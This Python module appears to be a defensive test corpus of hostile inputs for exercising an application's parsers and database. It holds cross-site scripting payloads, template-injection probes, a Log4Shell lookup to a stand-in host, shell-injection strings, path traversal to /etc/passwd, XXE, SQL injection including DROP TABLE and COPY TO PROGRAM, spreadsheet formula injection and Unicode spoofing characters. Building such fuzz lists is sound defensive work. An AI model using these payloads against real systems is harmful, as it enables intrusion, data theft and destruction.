"""Texts that have done harm somewhere: scripts for pages, statements for databases, formulas for tables, and
letters that deceive the eye or the parser. Our own compilation; none of it is meant for us to understand."""

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//x.example></script>", "<img src=x onerror=alert(1)>", "<img src=x onerror=alert`1`>",
    '"><svg onload=alert(1)>', "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,<b>x>", "<math><mi xlink:href=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java&#9;script:alert(1)'>x</a>",
    "javascript:alert(1)//", "<form action=javascript:alert(1)><input type=submit>",
    "<meta http-equiv=refresh content='0;url=//x.example'>", "<link rel=stylesheet href=//x.example>",
    "<style>@import'//x.example'</style>", "<base href=//x.example>",
    "<table background=javascript:alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<b>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<x onclick=alert(1)>x", "<b id=__proto__>",
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{%if 1%}x{%endif%}", "[[7*7]]", "${jndi:ldap://x.example/a}", "{0.__class__.__mro__}",
    "%(password)s", "{city}", "{n:money}", "%s%n%x", "$(id)", "`id`", "; id", "| id", "&& id",
    "../../../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "//x.example/%2e%2e",
    "<?php phpinfo(); ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
)  # fmt: skip
STATEMENTS = (
    "'", "''", '"', "\\'", "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "') OR ('1'='1",
    "1; DROP TABLE users; --", "'; DELETE FROM orders; --", "' UNION SELECT phone FROM users --",
    "' AND 1=(SELECT pg_sleep(0)) --", "'||(SELECT version())||'", "'; COPY users TO PROGRAM 'id'; --",
    "$$; DROP TABLE bids; $$", "$1", ":name", "%s", "?", "/* x */", "--", "\\", "%", "_", "%25",
    "E'\\x27'", "U&'\\0027'", "' OR id IS NOT NULL OR 'x'='y", "1 OR 1=1", "NULL", "null", "true",
    "0x31", "1e309", "-1", "1,2", "{1,2}", "(1,2)", "ARRAY[1]", "'::regclass", "*:*", "a & b | !c",
    "' <-> '", "a:*", "POINT(0 0)", "SRID=4326;POINT(1 1)",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", '=HYPERLINK("//x.example","x")', "\t=1+1",
    "|x", "=IMPORTXML(1,2)", "%0A=1+1",
)  # fmt: skip
LETTERS = (
    "line\nfeed", "carriage\r\nreturn", "X-Injected: 1\r\n\r\n<html>", "tab\there", "\u202egnp.exe",
    "\u2066x\u2069", "\u200bzero\u200cwidth\u200d", "\ufeffmark", "\xa0space", "á", "ẞİı", "ﬁ ligature",
    "Ⅷ", "𝕬", "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "🇰🇿",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "Қазақстан", "中文",
    "العربية", "עברית", "ไทย", "раураl", "\u2028line\u2029", "\x01\x02\x1f", "\x7f", "\x85",
    "\x1b[31mred", "ﷺ", "z͎̠̦͊a̛l̢g̷o", "＜script＞", "﹤script﹥", "‹b›", "ʹ OR 1=1", "\U000103ff",
    "\U0010ffff", "\ufffe", "  both ends  ", "\\", "\\\\", "/", "//", "{}", "[]", '{"a": 1}', "…",
)  # fmt: skip
KEPT = (*SCRIPTS, *STATEMENTS, *FORMULAS, *LETTERS)
# What PostgreSQL holds nowhere, or no JSON of ours may say: refused with a sentence, whatever field it is in.
# As they stand in a JSON text: the last ones are halves of letters.
REFUSED = (r'"\u0000"', r'"a\u0000b"', r'"\ud800"', r'"\udfff x"', r'"\udc00\ud800"')


def packed(texts: tuple[str, ...], size: int, mark: str) -> list[str]:
    """All of them in as few texts as fit the size; each begins with the mark and its number."""
    found: list[str] = []
    for text in texts:
        room = size - len(found[-1]) if found else 0
        if len(text) + 1 <= room:
            found[-1] += "\u241e" + text
        elif (one := f"{mark}{len(found)}\u241d{text}") and len(one) <= size:
            found.append(one)
    return found
